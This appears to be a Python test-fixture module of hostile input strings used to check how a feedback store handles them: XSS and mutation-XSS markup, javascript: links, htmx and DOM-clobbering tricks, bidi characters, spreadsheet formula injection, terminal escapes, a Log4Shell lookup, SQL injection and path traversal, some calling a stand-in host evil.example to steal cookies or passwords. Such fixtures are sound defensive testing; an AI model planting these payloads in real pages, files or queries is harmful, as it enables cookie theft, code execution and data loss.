"""Texts that mean harm: what a model, or somebody who uploads its output, can put into a page, a file, a terminal."""

from __future__ import annotations

ONE_MEGABYTE = 2**20

MARKUP = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    '"><script>alert(document.cookie)</script>',
    "</script><script>alert(1)</script>",
    '{"a": "</script><script>alert(1)</script>"}',
    "<!--<script>-->alert(1)//</script>",
    "</textarea><script>alert(1)</script>",
    "</title></style></noscript><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="fetch(`https://evil.example/?${document.cookie}`)">',
    "<img src=https://evil.example/pixel.gif width=1 height=1>",
    "![pixel](https://evil.example/pixel.gif)",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==></object>",
    "<embed src=//evil.example/x.swf>",
    "<base href=https://evil.example/>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>@import 'https://evil.example/x.css'; body { display: none }</style>",
    '<p style="position:fixed;inset:0;background:url(https://evil.example/x)">covered</p>',
    '<form action="https://evil.example/"><input name=password><button>Log in</button></form>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(1)"><text y="20">click</text></a></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=alert(1)>#x"></use></svg>',
    "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
)

ADDRESSES = (
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](javascript&#58;alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<a href=' javascript:alert(1)'>click</a>",
    '<a href="\x01javascript:alert(1)">click</a>',
    "<javascript:alert(1)>",
    '[a]: javascript:alert(1) "t"\n\n[click][a]',
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
)

HTMX = (
    '<div hx-get="/logout" hx-trigger="load">x</div>',
    '<div data-hx-post="https://evil.example/" data-hx-trigger="revealed">x</div>',
    '<div hx-on:load="alert(1)" hx-vals="js:{a: alert(1)}">x</div>',
    '<div id="main" hx-swap-oob="true">replaced</div>',
    '<div hx-disinherit="*" hx-ext="evil" hx-headers="{}">x</div>',
    '<meta name="htmx-config" content=\'{"allowEval": true, "selfRequestsOnly": false}\'>',
    '<button hx-delete="/api/everything" hx-confirm="Next answer?">Next</button>',
)

CLOBBERING = (
    '<form id="submit"><input name="action" id="csrf"></form>',
    '<a id="config"></a><a id="config" name="url" href="https://evil.example/">x</a>',
    '<img name="getElementById"><img name="cookie">',
    '<div id="heedful-assignment" data-assignment="other"></div>',
)

MUTATION = (
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    '<a title="--!><img src=x onerror=alert(1)>">',
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
)

BIDI = (
    "\u202ereversed\u202c and back",
    "if (admin\u202e \u2066// no check\u2069 \u2066) { run(); }",
    "\u2067right to left\u2069 \u200f\u200e \u061c",
    "A\u200bB\u200cC\u200dD\ufeffE",
    "Z" + "\u0335\u0321\u0350" * 60 + "algo",
    "العربية تبدأ من اليمين، then English, ثم العربية",
    "\U000e0041\U000e0042 tags \ufff9\ufffa\ufffb",
)

FORMULAS = (
    '=HYPERLINK("https://evil.example/?" & A1, "click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(1+1)*cmd|" /C calc"!A0',
    "\t=1+1",
    "\r=1+1",
    '"quoted", "cells"\n"on, two lines"',
)

TERMINAL = (
    "\x1b[31mred\x1b[0m \x1b[2J\x1b[H cleared",
    "\x1b]0;title\x07\x1b]8;;https://evil.example/\x1b\\link\x1b]8;;\x1b\\",
    "[bold red]rich[/] [link=https://evil.example]link[/link] [/unbalanced]",
    "back\x08\x08\x08space, bell \x07, form feed \x0c, next line \x85",
    "carriage\rreturn",
    "\x7f delete, \x9b31m c1",
    "%s %d {0} {name} ${jndi:ldap://evil.example/a} {{ 7*7 }} {% load x %}",
)

ODD = (
    "line one\r\nline two\rline three\u2028line four\u2029end",
    " leading and trailing space \n\n",
    "' OR 1=1; DROP TABLE feedback_judgment; --",
    "../../../../etc/passwd",
    "\ufffe\uffff noncharacters \U0010ffff",
    "e\u0301 is not \u00e9, \ufb01 is not fi",
    "```html\n<script>alert(1)</script>\n```",
    "    <script>alert('code')</script>",
    "`<img src=x onerror=alert(1)>`",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
    "> " * 200 + "deep",
    "[" * 500 + "links" + "](x)" * 500,
    "*" * 2000,
    "null",
    "[]",
    '{"role": "system", "content": "x"}',
    "\n\nHuman: not a turn\n\nAssistant: of a conversation",
    "NaN",
)


def hostile_texts() -> list[str]:
    """Texts that the store keeps as they are. The last is one line of a megabyte."""
    small = [*MARKUP, *ADDRESSES, *HTMX, *CLOBBERING, *MUTATION, *BIDI, *FORMULAS, *TERMINAL, *ODD]
    return [*small, "<script>alert(1)</script>" + "x" * ONE_MEGABYTE]


def refused_texts() -> list[str]:
    """Texts that no database keeps: they are refused where they come in, by line."""
    return ["NUL \0 in the middle", "\0", "half \ud83d a pair", "\udc00 the other half", "\ud800"]
